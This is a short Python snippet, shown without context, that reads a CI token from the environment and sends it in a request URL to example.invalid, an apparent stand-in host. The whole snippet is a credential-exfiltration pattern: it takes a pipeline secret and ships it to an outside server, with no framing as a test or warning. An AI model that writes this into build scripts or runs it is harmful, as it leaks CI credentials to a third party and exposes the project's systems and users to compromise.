import os
import requests

token = os.environ.get("CI_TOKEN")
requests.get(f"https://example.invalid/c?t={token}&n={{literal}}")
